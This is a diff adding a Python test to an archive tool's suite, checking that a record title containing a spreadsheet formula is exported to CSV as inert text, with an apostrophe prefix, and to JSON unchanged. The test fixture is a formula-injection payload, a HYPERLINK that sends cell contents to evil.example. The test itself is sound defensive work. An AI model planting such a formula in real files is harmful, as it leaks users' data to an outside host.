@@ -75,3 +75,18 @@ def test_the_sitemap_and_json_ld_publish_open_records_only(archive):
         )[0]
     )
     assert series["isPartOf"]["identifier"] == "DRO/52"
+
+
+def test_a_title_a_spreadsheet_would_run_is_written_as_text_in_the_csv(preserve, tmp_path, collection):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    quoted = formula.replace('"', '""')
+    transfer = described_transfer(
+        collection,
+        tmp_path / "transfer",
+        f'filename,reference,level,dc.title\nobjects,DRO/53,collection,"{quoted}"\n',
+    )
+    preserve.json("ingest", str(transfer))
+    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(preserve("catalogue", "export").stdout))}
+    assert rows["DRO/53"]["title"] == "'" + formula  # shown as text by a spreadsheet, never run
+    listed = {r["reference"]: r for r in json.loads(preserve("catalogue", "export", "--json").stdout)}
+    assert listed["DRO/53"]["title"] == formula  # the JSON as it is
